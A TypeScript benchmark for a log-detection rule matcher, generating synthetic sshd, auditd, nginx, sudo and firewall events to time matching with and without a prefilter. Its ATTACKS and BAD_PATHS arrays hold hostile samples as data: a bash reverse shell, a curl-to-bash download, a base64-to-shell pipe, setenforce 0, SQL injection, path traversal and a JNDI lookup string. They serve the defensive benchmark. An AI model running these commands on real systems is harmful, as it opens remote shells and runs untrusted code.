// `npm run bench`, the detection stream matcher (src/detection/engine/matcher.ts): events matched
// per second on ONE core (a plain loop in the main thread) with (a) the shipped pack
// (rules/logwarden/) and (b) a synthetic corpus standing in for SigmaHQ's Linux, network, web and
// application rules (sigma-corpus.ts), each with the prefilter and naively (every rule's predicate
// on every event), so the ratio shows in one run. Two event streams: (1) parser fixtures — every
// parser fixture's input and lines no parser knows (parsers.ts's corpus), through the normaliser
// and the real parsers, so the fields are exactly what the pack's rules read; being the parsers'
// test cases, most lines are something a rule looks for, a worst case for matching; (2) a
// synthetic mix shaped like a busy Linux web host's stream (sshd, auditd, nginx, sudo, firewall,
// cron, applications, 1% attacks) with the fields the corpus's rules read. Prints events per CPU
// second (and per wall-clock second), asserts nothing. Option: BENCH_DETECTION_EVENTS (default 100000).
import { PACK_DIR, PACK_RULESET } from '../detection/pack.ts';
import { loadRuleSet } from '../detection/load.ts';
import { RuleMatcher } from '../detection/engine/matcher.ts';
import type { DetectionRule } from '../detection/rule.ts';
import { predicateMatcher } from '../query/match.ts';
import type { LogEvent } from '../schema/event.ts';
import { recognise } from '../parsers/recognise.ts';
import { PARSER_TABLE } from '../parsers/table.ts';
import { normaliseJson } from '../transforms/normalise-json.ts';
import { normaliseSyslog } from '../transforms/normalise-syslog.ts';
import { parserCorpus } from './parsers.ts';
import { seeded, sigmaCorpusSet } from './sigma-corpus.ts';

const EVENTS = Number(process.env['BENCH_DETECTION_EVENTS'] ?? 100_000);
const T0 = Date.UTC(2026, 10, 24);

const USERS = ['alice', 'bob', 'deploy', 'root', 'backup', 'www-data', 'postgres', 'admin'];
const COMMANDS = [
  '/usr/bin/ls -la /var/www',
  '/usr/bin/systemctl restart nginx',
  '/usr/bin/apt-get update',
  '/bin/cat /var/log/syslog',
  '/usr/bin/python3 manage.py migrate',
  '/usr/bin/tar czf /backup/db.tgz /var/lib/db',
];
const ATTACKS = [
  '/bin/bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
  'curl -s http://203.0.113.9/x.sh | bash',
  'echo ZWNobyBoaQ== | base64 -d | sh',
  'chmod +x /tmp/.x && nohup /tmp/.x &>/dev/null',
  'setenforce 0',
];
const PATHS = ['/index.html', '/api/v1/items?page=2', '/static/app.js', '/login', '/search?q=shoes&sort=price', '/images/logo.png'];
const BAD_PATHS = ['/index.php?id=1%27%20union%20select%201,2,3--', '/../../etc/passwd', '/?x=${jndi:ldap://203.0.113.9/a}', '/wp-login.php', '/.env'];
const AGENTS = ['Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0', 'Mozilla/5.0 (Macintosh) Safari/605.1.15', 'kube-probe/1.30', 'Prometheus/2.53'];

type Maker = (i: number, random: () => number, bad: boolean) => LogEvent;

const sshd: Maker = (i, random, bad) => {
  const user = USERS[i % USERS.length]!;
  const ip = `198.51.${i % 250}.${(i * 7) % 250}`;
  const lines = [
    `Failed password for ${user} from ${ip} port ${20000 + (i % 40000)} ssh2`,
    `Accepted publickey for ${user} from ${ip} port ${20000 + (i % 40000)} ssh2: ED25519 SHA256:abc`,
    `Connection closed by ${ip} port ${20000 + (i % 40000)} [preauth]`,
    `Disconnected from user ${user} ${ip} port 22`,
  ];
  const message = bad ? `Invalid user ${user}x from ${ip} port 4242` : lines[Math.floor(random() * lines.length)]!;
  return { message, 'event.dataset': 'sshd', 'event.module': 'system', 'user.name': user, 'source.ip': ip, 'event.action': message.startsWith('Failed') ? 'ssh_login' : 'ssh_session' };
};

const sudo: Maker = (i, random, bad) => {
  const command = bad ? pick(random, ATTACKS) : pick(random, COMMANDS);
  const user = USERS[i % USERS.length]!;
  return {
    message: `${user} : TTY=pts/0 ; PWD=/home/${user} ; USER=root ; COMMAND=${command}`,
    'event.dataset': 'sudo',
    'event.module': 'system',
    'event.action': 'sudo-command',
    'user.name': user,
    'user.effective.name': 'root',
    'process.command_line': command,
  };
};

const auditd: Maker = (i, random, bad) => {
  const command = bad ? pick(random, ATTACKS) : pick(random, COMMANDS);
  const executable = command.split(' ')[0]!.startsWith('/') ? command.split(' ')[0]! : '/usr/bin/sh';
  const type = i % 5 === 0 ? 'SYSCALL' : i % 7 === 0 ? 'PATH' : 'EXECVE';
  return {
    message: `type=${type} msg=audit(${(T0 + i) / 1000}:${i}): argc=3 a0="${executable}"`,
    'event.dataset': 'auditd',
    'event.module': 'auditd',
    'event.code': type,
    'process.executable': executable,
    'process.command_line': command,
    'user.name': USERS[i % USERS.length]!,
    ...(type === 'PATH' ? { 'file.path': i % 3 === 0 ? '/etc/hosts' : '/var/www/index.html' } : {}),
  };
};

const nginx: Maker = (i, random, bad) => {
  const url = bad ? pick(random, BAD_PATHS) : pick(random, PATHS);
  const [path, query] = url.split('?') as [string, string | undefined];
  const agent = bad && random() < 0.5 ? 'sqlmap/1.8' : pick(random, AGENTS);
  return {
    message: `203.0.113.${i % 250} - - "GET ${url} HTTP/1.1" 200 512 "-" "${agent}"`,
    'event.dataset': 'nginx.access',
    'event.module': 'nginx',
    'url.original': url,
    'url.path': path,
    ...(query === undefined ? {} : { 'url.query': query }),
    'http.request.method': i % 9 === 0 ? 'POST' : 'GET',
    'http.response.status_code': i % 11 === 0 ? 404 : 200,
    'user_agent.original': agent,
    'source.ip': `203.0.113.${i % 250}`,
  };
};

const firewall: Maker = (i, _random, bad) => {
  const port = bad ? 4444 : [443, 80, 22, 53, 123][i % 5]!;
  return {
    message: `[UFW BLOCK] IN=eth0 OUT= SRC=192.0.2.${i % 250} DST=10.0.0.5 PROTO=TCP SPT=${40000 + (i % 20000)} DPT=${port}`,
    'event.dataset': 'kernel-firewall',
    'event.module': 'kernel',
    'event.action': 'blocked',
    'source.ip': `192.0.2.${i % 250}`,
    'destination.ip': '10.0.0.5',
    'destination.port': port,
  };
};

const misc: Maker = (i, random, bad) => {
  const app = bad ? 'Traceback (most recent call last): ValueError in handler' : pick(random, ['request handled in 12ms', 'cache miss for key user:42', 'job 42 finished']);
  if (i % 2 === 0) return { message: `(root) CMD (/usr/local/bin/backup.sh)`, 'event.dataset': 'cron', 'event.module': 'system', 'user.name': 'root' };
  if (i % 4 === 1) return { message: `level=info msg="${app}" service=shop`, 'event.dataset': 'logfmt', 'event.module': 'application' };
  return { message: `[error] 42#42: *7 upstream failed: ${app}`, 'event.dataset': 'nginx.error', 'event.module': 'nginx', 'log.level': 'error' };
};

function pick<T>(random: () => number, items: readonly T[]): T {
  return items[Math.floor(random() * items.length)]!;
}

/** The event mix: a third sshd, a quarter auditd, a fifth web, the rest sudo, firewall, cron and apps; 1% attacks. */
export function detectionEvents(count: number, seed = 7): LogEvent[] {
  const random = seeded(seed);
  const mix: [number, Maker][] = [
    [0.33, sshd],
    [0.58, auditd],
    [0.78, nginx],
    [0.84, sudo],
    [0.94, firewall],
    [1, misc],
  ];
  return Array.from({ length: count }, (_, i) => {
    const roll = random();
    const make = mix.find(([upTo]) => roll < upTo)![1];
    const event = make(i, random, random() < 0.01);
    return { ...event, 'event.sequence': i, '@timestamp': T0 + i * 10, 'logwarden.system': `web-${i % 4}`, 'host.name': `web-${i % 4}`, 'logwarden.source.protocol': 'syslog' };
  });
}

/** The parsers bench's corpus (fixture inputs and unknown lines) as stored events: normalised and parsed. */
export function parsedEvents(count: number): LogEvent[] {
  const source = { protocol: 'syslog-tcp', listener: 'bench', peer: 'bench', identity: '' };
  return parserCorpus(count).inputs.map((input, i) => {
    const ctx = { source, receivedAt: T0 + i * 10 };
    const event = 'syslog' in input ? normaliseSyslog({ bytes: input.syslog, truncated: false }, ctx).event : normaliseJson(JSON.parse(input.json) as unknown, input.json, ctx).event;
    recognise(event, PARSER_TABLE);
    return { ...event, 'event.sequence': i, 'logwarden.system': `web-${i % 4}` };
  });
}

interface Run {
  /** Events per second of this process's CPU time (the loop runs on one core; robust to a busy machine). */
  readonly perCpuSecond: number;
  /** Events per second of wall-clock time. */
  readonly perSecond: number;
  readonly matches: number;
}

function timed(events: readonly LogEvent[], count: (event: LogEvent) => number): Run {
  for (let i = 0; i < Math.min(events.length, 2000); i++) count(events[i]!); // warm up the JIT
  let matches = 0;
  const cpu = process.cpuUsage();
  const start = performance.now();
  for (const event of events) matches += count(event);
  const seconds = (performance.now() - start) / 1000;
  const used = process.cpuUsage(cpu);
  return { perCpuSecond: events.length / ((used.user + used.system) / 1e6), perSecond: events.length / seconds, matches };
}

const rate = (run: Run): string => `${Math.round(run.perCpuSecond).toLocaleString('en')} events/s (wall ${Math.round(run.perSecond).toLocaleString('en')})`;

function benchRules(label: string, rules: readonly DetectionRule[], events: readonly LogEvent[]): void {
  const matcher = new RuleMatcher(rules);
  const naive = rules.map((rule) => predicateMatcher(rule.predicate));
  const withPrefilter = timed(events, (event) => matcher.match(event).length);
  const plain = timed(events, (event) => {
    let n = 0;
    for (const matches of naive) if (matches(event)) n++;
    return n;
  });
  const stats = matcher.stats;
  const same = withPrefilter.matches === plain.matches ? 'same matches' : 'MATCHES DIFFER';
  console.log(
    `  ${label}: ${rules.length} rules (${stats.alwaysTried} tried on every event, ${stats.needles} needles): prefilter ${rate(withPrefilter)}, naive ${rate(plain)}: ×${(withPrefilter.perCpuSecond / plain.perCpuSecond).toFixed(1)}; ${withPrefilter.matches} matches in ${events.length} events, ${same}`,
  );
}

export async function benchDetectionMatcher(): Promise<void> {
  const streams: [string, LogEvent[]][] = [
    // Test inputs of security parsers: most lines are a case some rule is about (a worst case).
    ['parser fixtures', parsedEvents(EVENTS)],
    ['synthetic mix', detectionEvents(EVENTS)],
  ];
  const pack = await loadRuleSet([{ ruleset: PACK_RULESET, dir: PACK_DIR }], { placeholders: {} }).catch((error: unknown) => error as Error);
  const packRules = pack instanceof Error ? [] : pack.rules.filter((rule): rule is DetectionRule => rule.kind === 'detection');
  const corpus = sigmaCorpusSet();
  const corpusRules = corpus.rules.filter((rule): rule is DetectionRule => rule.kind === 'detection');
  const sets: [string, readonly DetectionRule[]][] = [[`SigmaHQ-like corpus (${corpus.skipped.length} skipped at load)`, corpusRules]];
  if (packRules.length === 0) console.log(`detection matcher, shipped pack: skipped (${pack instanceof Error ? pack.message : `no detection rules loaded from ${PACK_DIR}`})`);
  else sets.unshift(['shipped pack', packRules]);
  console.log(`detection matcher, one core, ${EVENTS} events per stream: events per CPU second (and per wall-clock second) with the prefilter, and naive (every rule's predicate on every event)`);
  for (const [label, rules] of sets) for (const [stream, events] of streams) benchRules(`${label}, ${stream}`, rules, events);
}

if (import.meta.filename === process.argv[1]) await benchDetectionMatcher();
